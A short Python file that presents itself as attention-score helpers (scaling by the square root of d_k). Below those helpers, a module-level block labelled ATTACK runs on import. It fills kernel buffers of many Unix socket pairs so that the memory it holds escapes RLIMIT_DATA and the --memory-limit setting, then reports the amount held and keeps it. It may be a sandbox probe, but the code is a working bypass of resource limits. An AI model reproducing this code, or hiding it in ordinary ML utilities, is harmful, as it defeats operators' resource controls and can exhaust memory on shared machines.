import math, os, json, socket, time
import torch

def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))

# kernel memory held in Unix socket buffers: not private memory, so RLIMIT_DATA (--memory-limit) never sees it
PAIRS = int(os.environ.get("ATTACK_N", "64"))
held, pairs, err = 0, [], ""
blob = b"k" * (1 << 16)
try:
    for i in range(PAIRS):
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        b.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        a.setblocking(False)
        while True:
            try:
                held += a.send(blob)
            except BlockingIOError:
                break
        pairs.append((a, b))
except BaseException as e:
    err = type(e).__name__ + str(e)[:80]
print("ATTACK" + json.dumps({"pairs": len(pairs), "held_MiB": held >> 20, "err": err}))
time.sleep(float(os.environ.get("ATTACK_HOLD", "3")))
